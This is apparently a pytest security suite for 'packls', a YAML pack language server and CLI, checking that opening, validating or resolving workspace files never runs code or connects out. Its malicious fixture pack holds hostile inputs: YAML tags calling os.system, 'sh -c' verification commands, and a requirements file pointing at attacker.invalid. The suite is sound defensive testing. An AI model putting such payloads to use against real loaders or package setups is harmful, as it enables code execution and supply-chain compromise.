"""The promises of docs/security.md, one test each: workspace files are data, never code or a way out.

A "malicious" pack here declares everything that could run something if packls ever ran it:
verification commands, an interpreter, entry-point scripts, environment set-up commands,
YAML tags that construct Python objects in unsafe loaders, links out of the pack. Each of
them would create a marker file. The tests run validate, resolve, the language server and
`sync --status` / `sync --detect` (without paths) on it — under a Python audit hook that
records every process start and network connection — and the marker never appears.
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest
from lsprotocol import types

from packls.lsp.cold_check import helper_command
from tests.hostile.serving import CONFIG, WATCHED_EVENTS, audit_events, h, reset_audit, server, settings  # noqa: F401 (fixtures)
from tests.lsp.conftest import DEFAULT_SETTINGS, start, stop
from tests.lsp.harness import Harness
from tests.lsp.test_cold_check import HELPED
from tests.lsp.test_warm_start import progress_messages, shown
from tests.packbuilder import write_large_workspace

# Runs `packls ARGS...` with the same audit hook the language server tests use.
CLI_BOOT = f"""
import os, sys
def _hook(event, args, _open=open, _log=os.environ["PACKLS_TEST_AUDIT_LOG"], _watched={WATCHED_EVENTS!r}):
    if event.startswith(_watched):
        with _open(_log, "a", encoding="utf-8") as out:
            out.write(f"{{event}} {{args!r}}\\n")
sys.addaudithook(_hook)
from packls.cli import main
sys.exit(main(sys.argv[1:]))
"""


def malicious_pack(root: Path, marker: Path) -> Path:
    """A pack whose every executable-looking field would create `marker` if anything ran it."""
    touch = f"import pathlib; pathlib.Path({str(marker)!r}).write_text('ran')"
    script = root / "evil.sh"
    (root / "actions").mkdir(parents=True)
    (root / "runtimes").mkdir()
    script.write_text(f"#!/bin/sh\ntouch {marker}\n")
    script.chmod(0o755)
    (root / "pack.yaml").write_text(
        'ref: evil\nversion: "1.0.0"\nrunner_type: shell\n'
        f"dependencies: [core]\npython_dependencies:\n  requirements_file: requirements.txt\n"
    )
    (root / "requirements.txt").write_text(f"--index-url http://attacker.invalid/simple\n-e git+https://attacker.invalid/x.git#egg=x\n")
    (root / "runtimes/evil.yaml").write_text(
        f"""ref: evil.python
name: EvilPython
execution_config:
  interpreter: {{binary: {script}, args: ["--version"]}}
  environment:
    create_command: [{script}]
    install_command: [{sys.executable}, -c, "{touch}"]
distributions:
  verification:
    commands:
      - {{binary: {sys.executable}, args: [-c, "{touch}"], exit_code: 0}}
versions:
  - version: "3.12"
    is_default: true
    distributions:
      verification:
        commands:
          - {{binary: {script}, args: [], exit_code: 0}}
          - {{binary: "sh -c 'touch {marker}'", args: []}}
"""
    )
    (root / "actions/run.yaml").write_text(
        f'ref: evil.run\nrunner_type: evil.python\nruntime_version: ">=3"\nentry_point: run.sh\n'
        f'parameters:\n  x: !!python/object/apply:os.system ["touch {marker}"]\n'
        f'  y: !!python/name:os.system\n  z: !custom {{cmd: "touch {marker}"}}\n'
    )
    (root / "actions/run.sh").write_text(f"#!/bin/sh\ntouch {marker}\n")
    (root / "actions/run.sh").chmod(0o755)
    return root


@pytest.fixture
def marker(tmp_path: Path) -> Path:
    return tmp_path / "MARKER-something-ran"


@pytest.fixture
def evil(tmp_path: Path, marker: Path) -> Path:
    return malicious_pack(tmp_path / "ws" / "evil", marker)


def audited(tmp_path: Path, *argv: str, cwd: Path | None = None, yaml_fast: bool = True) -> tuple[subprocess.CompletedProcess[str], list[str]]:
    log = tmp_path / "cli-audit.log"
    log.unlink(missing_ok=True)
    env = {
        **os.environ, "PACKLS_TEST_AUDIT_LOG": str(log), "XDG_DATA_HOME": str(tmp_path / "data"), "HOME": str(tmp_path / "home"),
        "PACKLS_YAML_FAST": "1" if yaml_fast else "0",
    }
    env.pop("PACKLS_DATABASE", None)
    done = subprocess.run([sys.executable, "-c", CLI_BOOT, *argv], capture_output=True, text=True, timeout=120, env=env, cwd=cwd)
    events = log.read_text(encoding="utf-8").splitlines() if log.exists() else []
    return done, events


# --- the command line -------------------------------------------------------------------------------


@pytest.mark.parametrize("yaml_fast", [True, False], ids=["fast-yaml", "ruamel-yaml"])
@pytest.mark.parametrize(
    "argv",
    [
        ("validate", "--no-config"),
        ("validate", "--no-config", "--format", "sarif"),
        ("resolve", "--no-config"),
        ("resolve", "--no-config", "--format", "json"),
    ],
    ids=["validate", "validate-sarif", "resolve", "resolve-json"],
)
def test_validate_and_resolve_never_run_anything_or_connect(tmp_path: Path, evil: Path, marker: Path, argv: tuple[str, ...], yaml_fast: bool) -> None:
    done, events = audited(tmp_path, *argv, str(evil), yaml_fast=yaml_fast)
    assert "Traceback" not in done.stderr, done.stderr
    assert events == [] and not marker.exists()


def test_sync_status_and_detect_without_paths_never_run_workspace_commands(tmp_path: Path, evil: Path, marker: Path) -> None:
    database = str(tmp_path / "registry.sqlite3")
    done, events = audited(tmp_path, "sync", "--status", "--database", database, cwd=evil)
    assert "Traceback" not in done.stderr and events == []
    # --detect with no PATH verifies only the built-in catalog, even when run inside a pack
    done, events = audited(tmp_path, "sync", "--detect", "--database", database, "--detect-timeout", "5", cwd=evil)
    assert "Traceback" not in done.stderr
    assert not marker.exists()
    assert all(str(evil) not in event for event in events), events


def test_detect_with_a_path_runs_what_those_packs_declare_without_a_shell(tmp_path: Path, evil: Path, marker: Path) -> None:
    """The one documented exception: `--detect PATH` runs verification commands, as Attune's worker would."""
    database = str(tmp_path / "registry.sqlite3")
    done, events = audited(tmp_path, "sync", "--detect", str(evil), "--database", database, "--detect-timeout", "5")
    assert "Traceback" not in done.stderr
    spawned = [e for e in events if e.startswith(("subprocess.Popen", "os.posix_spawn", "os.exec", "os.fork"))]
    assert spawned, "the declared verification command ran (this is what --detect is for)"
    assert not any("'/bin/sh'" in e or "'sh', '-c'" in e for e in spawned), "no shell was put in between"
    assert marker.exists()  # evil.sh ran: --detect on a pack is as trusting as running its code — see docs/security.md


# --- the language server ----------------------------------------------------------------------------


@pytest.fixture
def folders(evil: Path) -> list[Path]:
    return [evil.parent]


async def test_opening_and_exploring_a_malicious_workspace_runs_nothing(h: Harness, evil: Path, marker: Path) -> None:
    for path in sorted(evil.rglob("*.yaml")):
        doc = h.open(path)
        await h.diagnostics(doc)
        ident = h.ident(doc)
        for line in range(doc.text.count("\n") + 1):
            at = types.Position(line, 8)
            await h.client.text_document_hover_async(types.HoverParams(ident, at))
            await h.client.text_document_completion_async(types.CompletionParams(ident, at))
            await h.client.text_document_definition_async(types.DefinitionParams(ident, at))
        whole = types.Range(types.Position(0, 0), types.Position(doc.text.count("\n") + 1, 0))
        diagnostics = await h.diagnostics(doc)
        await h.client.text_document_code_action_async(
            types.CodeActionParams(ident, whole, types.CodeActionContext(diagnostics=list(diagnostics)))
        )
        await h.client.text_document_document_symbol_async(types.DocumentSymbolParams(ident))
        if h.pull:
            await h.client.text_document_inlay_hint_async(types.InlayHintParams(ident, whole))
        h.close(doc)
    h.client.workspace_did_change_watched_files(
        types.DidChangeWatchedFilesParams([types.FileEvent(uri=doc.uri, type=types.FileChangeType.Changed)])
    )
    await h.client.workspace_symbol_async(types.WorkspaceSymbolParams(query="evil"))
    assert not marker.exists()
    assert audit_events() == []


# --- the cold-start helper: the one process the language server starts --------------------------------


async def test_a_large_malicious_workspace_gets_one_fixed_helper_process_that_runs_nothing(tmp_path: Path, marker: Path) -> None:
    workspace = write_large_workspace(tmp_path / "ws")
    malicious_pack(workspace / "evil", marker)
    reset_audit()
    client = await CONFIG.start()
    try:
        h = await start(client, "neovim", [workspace], dict(DEFAULT_SETTINGS))
        found = await shown(h)
        assert any(HELPED in message for message in progress_messages(h))
        assert any("/evil/" in uri for uri in found)  # the helper checked the malicious pack too
    finally:
        await stop(client)
    assert not marker.exists()
    events = audit_events()
    assert len(events) == 1 and events[0].startswith("subprocess.Popen "), events
    assert repr(helper_command()) in events[0]  # the fixed command line: nothing from the workspace in it
